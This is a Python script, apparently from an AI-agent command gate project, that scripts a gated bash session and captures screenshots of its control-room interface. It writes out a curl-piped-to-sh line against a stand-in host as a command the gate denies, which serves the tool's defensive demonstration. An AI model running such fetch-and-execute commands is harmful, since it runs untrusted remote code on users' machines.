"""Make the pictures in screenshots/: the real control room around a real session.

    python tests/make_screenshots.py [FOLDER]

bash works behind the kernel gate in a project of its own, and its ``npm install chalk`` waits. Everything
is denied and removed afterwards. Needs bash, git, curl and npm; nothing is fetched. With cairosvg
installed, a PNG is written beside each SVG.

    control-room.svg   a question in the queue, beside the agent
    always.svg         the sheet of "always": how far, how long, and what it would have matched
    policy.svg         a rule in its form, with what it would change
    audit.svg          every decision, grouped by command
    narrow.svg         the same at 80x24
"""

from __future__ import annotations

import asyncio
import os
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

os.environ["COLORTERM"] = "truecolor"  # or the room would keep to sixteen colours, as for a plain terminal

from textual.pilot import Pilot

from agentgate.policy.store import default_text
from agentgate.session import Session
from agentgate.settings import GateChoice, Settings
from agentgate.tui.app import ControlRoom

SIZE = (144, 40)
LEADER = "ctrl+right_square_bracket"
HOME = Path("/home/me")  # stands in the pictures, so it has a name and not a number
PLACE = HOME / "shop"
DENIED = ("npm install left-padder", "curl -s https://get.left-padder.example | sh")
LINES = ["ls", "echo 'export const total = (items) => items.length' > cart.js", "git status --short"]


async def until(what: Callable[[], object], pilot: Pilot[int], seconds: float = 30.0) -> None:
    end = time.monotonic() + seconds
    while not what():
        if time.monotonic() > end:
            raise SystemExit("the picture did not come about in time")
        await pilot.pause(0.05)


async def type_line(pilot: Pilot[int], text: str) -> None:
    names = {" ": "space", "'": "apostrophe", "-": "minus", ".": "full_stop", ">": "greater_than_sign"}
    for char in text:
        await pilot.press(names.get(char, char))
    await pilot.press("enter")
    await pilot.pause(0.8)


async def asked(app: ControlRoom, pilot: Pilot[int], line: str) -> None:
    """Type a line that is asked about, and wait until it can be answered."""
    await type_line(pilot, line)
    await until(lambda: app.state.asks and app.state.armed(time.monotonic()), pilot)


async def begin(app: ControlRoom, pilot: Pilot[int]) -> None:
    """An agent that has worked for a while, was denied something, and waits for an answer."""
    await until(lambda: app.state.pid or app.start_error, pilot)
    if app.start_error:
        raise app.start_error
    for line in LINES:
        await type_line(pilot, line)
    for line in DENIED:
        await asked(app, pilot, line)
        await pilot.press(LEADER, "d")
        await until(lambda: not app.state.asks, pilot)
    await asked(app, pilot, "npm install chalk")
    await pilot.pause(2.0)


async def wide(session: Session, folder: Path) -> list[Path]:
    app, made = ControlRoom(session), []

    def take(name: str) -> None:
        made.append(folder / f"{name}.svg")
        app.save_svg(made[-1])

    try:
        async with app.run_test(size=SIZE) as pilot:
            await begin(app, pilot)
            take("control-room")
            await pilot.press(LEADER, "tab")
            await pilot.pause(1.0)
            await pilot.press("A")
            await pilot.pause(2.0)
            take("always")
            await pilot.press("escape", "4", *["j"] * 5, "e")  # the rule that asks about curl and its like
            await pilot.pause(1.0)
            await pilot.press("tab", "a")
            await pilot.pause(3.0)
            take("policy")
            await pilot.press("escape", "escape")  # it was not written: asks once
            await pilot.pause(1.0)
            await pilot.press("3", "t", "z", "g", "j", "j", "enter")  # and what git did, in full
            await pilot.pause(2.0)
            take("audit")
    finally:
        await session.close()
    return made


async def narrow(session: Session, path: Path) -> None:
    app = ControlRoom(session)
    try:
        async with app.run_test(size=(80, 24)) as pilot:
            await begin(app, pilot)
            app.save_svg(path)
    finally:
        await session.close()


def png(svg: Path) -> None:
    """The same picture for what shows no SVG, in a font of this machine."""
    try:
        import cairosvg
    except ImportError:
        return
    text = re.sub(r"@font-face *\{[^}]*\}", "", svg.read_text(encoding="utf-8"))
    text = re.sub(r"font-family:[^;]*;", "font-family: DejaVu Sans Mono;", text)
    cairosvg.svg2png(bytestring=text.encode(), write_to=str(svg.with_suffix(".png")), output_width=1600)


def main() -> None:
    folder = Path(sys.argv[1] if len(sys.argv) > 1 else Path(__file__).parents[1] / "screenshots").resolve()
    HOME.mkdir()
    PLACE.mkdir()
    try:
        (PLACE / "policy.yaml").write_text(default_text())
        (PLACE / "package.json").write_text('{"name": "shop", "type": "module"}\n')
        (PLACE / "README.md").write_text("# The shop\n")
        (PLACE / ".gitignore").write_text(".agentgate/\n")
        subprocess.run(["git", "init", "-q", PLACE], check=True)
        env = {
            "HOME": str(HOME),
            "PATH": "/usr/local/bin:/usr/bin:/bin",
            "LANG": "C.UTF-8",
            "PS1": r"\[\e[1;34m\]~/shop\[\e[0m\] $ ",
        }
        settings = Settings(
            command=("bash", "--norc", "--noprofile"),
            agent="bash",
            project=PLACE,
            audit=PLACE / ".agentgate" / "audit.jsonl",
            gate=GateChoice.KERNEL,
            env=env,
        )
        made = asyncio.run(wide(Session(settings), folder))
        asyncio.run(narrow(Session(settings), folder / "narrow.svg"))
        for path in (*made, folder / "narrow.svg"):
            png(path)
            print(os.path.relpath(path))
    finally:
        shutil.rmtree(HOME)


if __name__ == "__main__":
    main()
